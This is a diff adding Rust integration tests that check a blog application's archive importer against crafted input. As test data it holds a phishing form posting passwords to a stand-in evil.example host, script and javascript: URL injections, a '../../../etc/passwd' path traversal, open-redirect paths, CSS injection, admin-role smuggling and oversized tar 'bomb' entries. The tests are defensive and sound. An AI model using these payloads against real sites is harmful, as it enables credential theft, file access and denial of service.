@@ -14,6 +14,10 @@ on_both_backends!(
     bad_archives_and_full_databases_are_refused_and_change_nothing,
     an_admin_downloads_an_export_without_passwords,
     merging_adds_what_does_not_collide_and_reports_the_rest,
+    imported_html_is_rendered_again_from_the_markdown,
+    crafted_records_are_refused_and_nothing_is_imported,
+    merging_never_brings_in_an_admin_or_a_known_password,
+    oversized_entries_are_refused_before_they_are_read,
 );
 
 const PASSWORD: &str = "correct horse battery staple";
@@ -49,6 +53,50 @@ fn write_entries(path: &Path, entries: &[(String, Vec<u8>)]) {
             .unwrap();
     }
     tar.into_inner().unwrap().finish().unwrap();
+}
+
+/// The archive with its content.json changed by `edit`, and the manifest's checksum and
+/// counts made to match (as anyone crafting an archive can).
+fn crafted(from: &Path, to: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
+    use sha2::Digest;
+    let mut parts = entries(from);
+    let mut content = content_of(from);
+    edit(&mut content);
+    let json = serde_json::to_vec(&content).unwrap();
+    let sha = format!("{:x}", sha2::Sha256::digest(&json));
+    for (name, bytes) in &mut parts {
+        if name == "content.json" {
+            *bytes = json.clone();
+        } else if name == "manifest.json" {
+            let mut manifest: serde_json::Value = serde_json::from_slice(bytes).unwrap();
+            manifest["content_sha256"] = serde_json::json!(sha);
+            for (table, count) in manifest["counts"].as_object_mut().unwrap() {
+                *count = serde_json::json!(content[table.as_str()].as_array().unwrap().len());
+            }
+            *bytes = serde_json::to_vec(&manifest).unwrap();
+        }
+    }
+    write_entries(to, &parts);
+}
+
+fn import_fails(site: &Site, args: &[&str]) -> String {
+    let output = site.cli(args, None);
+    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(
+        !output.status.success(),
+        "{args:?} was accepted: {output:?}"
+    );
+    stderr
+}
+
+/// Users in the site's database (made by `folio migrate` if the import never opened it).
+fn user_count(site: &Site) -> i64 {
+    use diesel::prelude::*;
+    run(site, &["migrate"]);
+    folio::db::schema::users::table
+        .count()
+        .get_result(&mut site.connect())
+        .unwrap()
 }
 
 fn content_of(archive: &Path) -> serde_json::Value {
@@ -319,17 +367,28 @@ async fn bad_archives_and_full_databases_are_refused_and_change_nothing(backend:
 async fn an_admin_downloads_an_export_without_passwords(backend: Backend) {
     let a = populated_site().await;
     let server = a.start().await;
-    let (client, _) = logged_in(&server, "admin@example.org", PASSWORD).await;
+    let (client, csrf) = logged_in(&server, "admin@example.org", PASSWORD).await;
     let settings = get_page(&client, &server.url("/admin/settings"), 200).await;
     assert!(
-        settings.contains("href=\"/admin/export\""),
-        "linked from the settings"
+        settings.contains("<form method=\"post\" action=\"/admin/export\">"),
+        "a form on the settings page"
     );
-    let response = client
+    // Building the archive is heavy: a GET (a link, a prefetch, an <img>) doesn't start it,
+    // it leads to the form.
+    let get = client
         .get(server.url("/admin/export"))
         .send()
         .await
         .unwrap();
+    assert_eq!(get.status(), 303);
+    assert_eq!(get.headers()["location"], "/admin/settings");
+    let without_token = client
+        .post(server.url("/admin/export"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(without_token.status(), 403);
+    let response = post_form(&client, &server, "/admin/export", &csrf, &[]).await;
     assert_eq!(response.status(), 200);
     assert_eq!(response.headers()["content-type"], "application/gzip");
     assert!(
@@ -349,12 +408,8 @@ async fn an_admin_downloads_an_export_without_passwords(backend: Backend) {
             .all(|u| u["password_hash"].is_null()),
         "no password hashes in a download"
     );
-    let (author, _) = logged_in(&server, "author@example.org", PASSWORD).await;
-    let refused = author
-        .get(server.url("/admin/export"))
-        .send()
-        .await
-        .unwrap();
+    let (author, author_csrf) = logged_in(&server, "author@example.org", PASSWORD).await;
+    let refused = post_form(&author, &server, "/admin/export", &author_csrf, &[]).await;
     assert_eq!(refused.status(), 403);
 
     let b = Site::new(&backend);
@@ -414,9 +469,16 @@ async fn merging_adds_what_does_not_collide_and_reports_the_rest(backend: Backen
         301,
         "the redirect came along, pointing at the new id"
     );
-    // The local admin kept their password; the archive's author was added.
+    // The local admin kept their password; the archive's author was added, disabled and
+    // without the archive's password hash.
     logged_in(&server, "admin@example.org", "another long password").await;
-    logged_in(&server, "author@example.org", PASSWORD).await;
+    let author = common::log_in(&common::client(), &server, "author@example.org", PASSWORD).await;
+    assert_ne!(author.status(), 303, "a merged account cannot log in");
+    assert!(
+        out.contains("admin@example.org: already has an account here, left as it is")
+            && out.contains("author@example.org: author, disabled, without a password"),
+        "{out}"
+    );
     let posts: i64 = {
         use diesel::prelude::*;
         folio::db::schema::posts::table
@@ -425,4 +487,312 @@ async fn merging_adds_what_does_not_collide_and_reports_the_rest(backend: Backen
             .unwrap()
     };
     assert_eq!(posts, 2, "merging twice added the post once");
+}
+
+async fn imported_html_is_rendered_again_from_the_markdown(backend: Backend) {
+    let a = populated_site().await;
+    let good = export(&a, "good.tar.gz");
+    let b = Site::new(&backend);
+    let archive = b.data_dir().join("crafted.tar.gz");
+    crafted(&good, &archive, |content| {
+        let post = &mut content["posts"][0];
+        post["body_html"] = serde_json::json!(
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\
+             <form action=\"https://evil.example/steal\"><input name=\"password\"></form>"
+        );
+        post["body_markdown"] = serde_json::json!(
+            "Kittiwakes nest here.\n\n<form action=\"https://evil.example/steal\"><input name=\"password\"></form>\n\n<script>alert(1)</script>"
+        );
+        post["search_text"] = serde_json::json!("nothing to see");
+    });
+    run(&b, &["import", archive.to_str().unwrap()]);
+    let server = b.start().await;
+    let anonymous = common::client();
+    let page = get_page(&anonymous, &server.url("/harbour-days"), 200).await;
+    assert!(page.contains("Kittiwakes nest here."), "{page}");
+    for foreign in [
+        "http-equiv",
+        "<form action=\"https://evil",
+        "evil.example",
+        "<script>alert",
+    ] {
+        assert!(!page.contains(foreign), "{foreign} in {page}");
+    }
+    let found = get_page(&anonymous, &server.url("/search?q=kittiwakes"), 200).await;
+    assert!(
+        found.contains("Harbour days"),
+        "search text derived again: {found}"
+    );
+    server.stop().await;
+}
+
+async fn crafted_records_are_refused_and_nothing_is_imported(backend: Backend) {
+    let a = populated_site().await;
+    let good = export(&a, "good.tar.gz");
+    let target = Site::new(&backend);
+    let dir = target.data_dir().to_path_buf();
+    type Edit = fn(&mut serde_json::Value);
+    let cases: &[(&str, Edit, &str)] = &[
+        (
+            "slug",
+            |c| c["posts"][0]["slug"] = "/evil.example".into(),
+            "slug",
+        ),
+        (
+            "reserved",
+            |c| c["posts"][0]["slug"] = "admin".into(),
+            "slug",
+        ),
+        (
+            "redirect",
+            |c| c["redirects"][0]["from_path"] = "//evil.example".into(),
+            "redirect",
+        ),
+        (
+            "redirect-to",
+            |c| c["redirects"][0]["to_path"] = "https://evil.example/".into(),
+            "redirect",
+        ),
+        ("role", |c| c["users"][1]["role"] = "owner".into(), "role"),
+        (
+            "email",
+            |c| c["users"][1]["email"] = "not an email".into(),
+            "email",
+        ),
+        (
+            "hash",
+            |c| c["users"][1]["password_hash"] = "plain".into(),
+            "password",
+        ),
+        (
+            "status",
+            |c| c["posts"][0]["status"] = "live".into(),
+            "status",
+        ),
+        ("kind", |c| c["posts"][0]["kind"] = "script".into(), "kind"),
+        (
+            "key",
+            |c| c["media"][0]["storage_key"] = "../../../etc/passwd".into(),
+            "storage key",
+        ),
+        ("tag", |c| c["tags"][0]["slug"] = "a/../b".into(), "slug"),
+        (
+            "media-size",
+            |c| c["media"][0]["size_bytes"] = 1.into(),
+            "bytes",
+        ),
+        (
+            "canonical",
+            |c| c["posts"][0]["canonical_url"] = "javascript:alert(1)".into(),
+            "canonical",
+        ),
+        (
+            "accent",
+            |c| {
+                for s in c["settings"].as_array_mut().unwrap() {
+                    if s["key"] == "accent_colour" {
+                        s["value"] = "red;}body{display:none".into();
+                    }
+                }
+            },
+            "accent_colour",
+        ),
+        (
+            "navigation",
+            |c| {
+                for s in c["settings"].as_array_mut().unwrap() {
+                    if s["key"] == "navigation" {
+                        s["value"] = "Home = //evil.example".into();
+                    }
+                }
+            },
+            "navigation",
+        ),
+        (
+            "unknown-setting",
+            |c| {
+                c["settings"]
+                    .as_array_mut()
+                    .unwrap()
+                    .push(serde_json::json!({
+                        "key": "session_key", "value": "x", "updated_at": "2024-01-01T00:00:00"
+                    }))
+            },
+            "session_key",
+        ),
+    ];
+    for (name, edit, expected) in cases {
+        let path = dir.join(format!("{name}.tar.gz"));
+        crafted(&good, &path, *edit);
+        let stderr = import_fails(&target, &["import", path.to_str().unwrap()]);
+        assert!(
+            stderr.contains(expected) && stderr.contains("nothing was imported"),
+            "{name}: {stderr}"
+        );
+        assert_eq!(user_count(&target), 0, "{name} changed nothing");
+    }
+    assert!(
+        common::files_under(&dir.join("media")).is_empty(),
+        "no media file was placed"
+    );
+}
+
+async fn merging_never_brings_in_an_admin_or_a_known_password(backend: Backend) {
+    let a = populated_site().await;
+    let good = export(&a, "good.tar.gz");
+    let b = Site::new(&backend);
+    b.create_user(
+        "owner@example.org",
+        "Owner",
+        "admin",
+        "another long password",
+    );
+    let archive = b.data_dir().join("intruder.tar.gz");
+    crafted(&good, &archive, |content| {
+        content["users"][0]["email"] = "intruder@example.org".into();
+        content["users"][0]["slug"] = "intruder".into();
+    });
+
+    let out = run(&b, &["import", "--merge", archive.to_str().unwrap()]);
+    assert!(
+        out.contains("intruder@example.org: admin in the archive, imported as contributor"),
+        "{out}"
+    );
+    assert!(out.contains("disabled, without a password"), "{out}");
+    let server = b.start().await;
+    for email in ["intruder@example.org", "author@example.org"] {
+        let response = common::log_in(&common::client(), &server, email, PASSWORD).await;
+        assert_ne!(response.status(), 303, "{email} cannot log in");
+    }
+    server.stop().await;
+    let roles: Vec<(String, String, String, Option<String>)> = {
+        use diesel::prelude::*;
+        use folio::db::schema::users;
+        users::table
+            .order(users::id)
+            .select((
+                users::email,
+                users::role,
+                users::status,
+                users::password_hash,
+            ))
+            .load(&mut b.connect())
+            .unwrap()
+    };
+    let intruder = roles
+        .iter()
+        .find(|u| u.0 == "intruder@example.org")
+        .unwrap();
+    assert_eq!(
+        (intruder.1.as_str(), intruder.2.as_str()),
+        ("contributor", "disabled")
+    );
+    assert!(
+        roles
+            .iter()
+            .filter(|u| u.0 != "owner@example.org")
+            .all(|u| u.3.is_none())
+    );
+
+    // Asked for explicitly, the admin comes in as an admin (still without a password).
+    let c = Site::new(&backend);
+    c.create_user(
+        "owner@example.org",
+        "Owner",
+        "admin",
+        "another long password",
+    );
+    let out = run(
+        &c,
+        &[
+            "import",
+            "--merge",
+            "--allow-admins",
+            archive.to_str().unwrap(),
+        ],
+    );
+    assert!(
+        out.contains("intruder@example.org: admin, disabled, without a password"),
+        "{out}"
+    );
+
+    // A full import into an empty site says which accounts it made.
+    let d = Site::new(&backend);
+    let out = run(&d, &["import", good.to_str().unwrap()]);
+    assert!(
+        out.contains("admin@example.org: admin, active, with the password from the archive"),
+        "{out}"
+    );
+}
+
+async fn oversized_entries_are_refused_before_they_are_read(backend: Backend) {
+    let target = Site::new(&backend);
+    let dir = target.data_dir().to_path_buf();
+    // A tar header that declares a huge entry, followed by a few MB of zeros: read to the
+    // end, it would never fit in memory; it must be refused from its header alone.
+    let bomb = |name: &str, kind: tar::EntryType, declared: u64| -> PathBuf {
+        let path = dir.join(format!("bomb-{}.tar.gz", name.replace('/', "-")));
+        let file = std::fs::File::create(&path).unwrap();
+        let mut gzip = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
+        let manifest = serde_json::to_vec(&serde_json::json!({
+            "format": "folio-export", "version": 1, "folio": "0.1.0",
+            "created_at": "2024-01-01T00:00:00Z", "includes_credentials": false,
+            "content_sha256": "00", "counts": {"users": 0, "posts": 0, "revisions": 0,
+            "tags": 0, "media": 0, "redirects": 0, "settings": 0}
+        }))
+        .unwrap();
+        let mut header = tar::Header::new_gnu();
+        header.set_size(manifest.len() as u64);
+        header.set_mode(0o644);
+        header.set_path("manifest.json").unwrap();
+        header.set_cksum();
+        use std::io::Write;
+        gzip.write_all(header.as_bytes()).unwrap();
+        gzip.write_all(&manifest).unwrap();
+        gzip.write_all(&vec![0u8; 512 - manifest.len() % 512])
+            .unwrap();
+        let mut header = tar::Header::new_gnu();
+        header.set_entry_type(kind);
+        header.set_size(declared);
+        header.set_mode(0o644);
+        header.set_path(name).unwrap();
+        header.set_cksum();
+        gzip.write_all(header.as_bytes()).unwrap();
+        let zeros = vec![0u8; 1024 * 1024];
+        for _ in 0..8 {
+            gzip.write_all(&zeros).unwrap();
+        }
+        gzip.finish().unwrap();
+        path
+    };
+    let gib = 1024 * 1024 * 1024;
+    let cases = [
+        (
+            bomb("content.json", tar::EntryType::Regular, 4 * gib),
+            "content.json is",
+        ),
+        (
+            bomb("././@LongLink", tar::EntryType::GNULongName, gib),
+            "not a plain file",
+        ),
+        (
+            bomb("content.json", tar::EntryType::Regular, 40 * 1024 * 1024),
+            "more than the 16 MB",
+        ),
+    ];
+    for (i, (path, expected)) in cases.iter().enumerate() {
+        let started = std::time::Instant::now();
+        let mut args = vec!["import", path.to_str().unwrap()];
+        if i == 2 {
+            args.extend(["--max-content-mb", "16"]);
+        }
+        let stderr = import_fails(&target, &args);
+        assert!(stderr.contains(expected), "{path:?}: {stderr}");
+        assert!(stderr.contains("nothing was imported"), "{stderr}");
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(5),
+            "refused fast"
+        );
+    }
+    assert_eq!(user_count(&target), 0);
 }
